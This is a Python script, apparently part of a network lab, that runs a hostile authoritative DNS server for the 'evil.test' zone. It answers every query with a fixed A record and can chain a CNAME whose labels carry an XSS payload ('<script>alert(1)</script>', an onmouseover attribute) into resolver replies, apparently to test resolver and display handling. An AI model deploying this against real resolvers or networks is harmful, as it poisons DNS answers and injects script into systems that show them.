#!/usr/bin/env python3
"""A hostile authoritative DNS server for the lab's `evil.test` zone (run in NAME-wan).

  evil_dns.py ADDR
      Answers every UDP query on ADDR:53 with A 203.0.113.87 (TTL 60) for the name asked,
      whatever bytes its labels hold. A query whose first label is `cname` gets a CNAME
      to `<script>alert(1)</script>."onmouseover=x.evil.test` first, then the A record
      for that name: the answer chain carries markup into the resolver's reply.

Only the standard library; the lab's resolver forwards evil.test here.
"""
import socket
import struct
import sys

HOSTILE = [b"<script>alert(1)</script>", b'"onmouseover=x', b"evil", b"test"]


def wire(labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"


def read_question(msg):
    pos, labels = 12, []
    while msg[pos]:
        n = msg[pos]
        labels.append(msg[pos + 1:pos + 1 + n])
        pos += 1 + n
    qtype, qclass = struct.unpack("!HH", msg[pos + 1:pos + 5])
    return labels, qtype, msg[12:pos + 5]


def answer(msg):
    labels, qtype, question = read_question(msg)
    qid = msg[:2]
    records = []
    owner = b"\xc0\x0c"  # the question's name
    if labels and labels[0].lower() == b"cname":
        target = wire(HOSTILE)
        records.append(owner + struct.pack("!HHIH", 5, 1, 60, len(target)) + target)
        owner = target
    if qtype == 1:
        records.append(owner + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.87"))
    header = qid + struct.pack("!HHHHH", 0x8580, 1, len(records), 0, 0)
    return header + question + b"".join(records)


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((sys.argv[1], 53))
    while True:
        msg, peer = s.recvfrom(4096)
        try:
            s.sendto(answer(msg), peer)
        except (IndexError, struct.error):
            pass


if __name__ == "__main__":
    main()
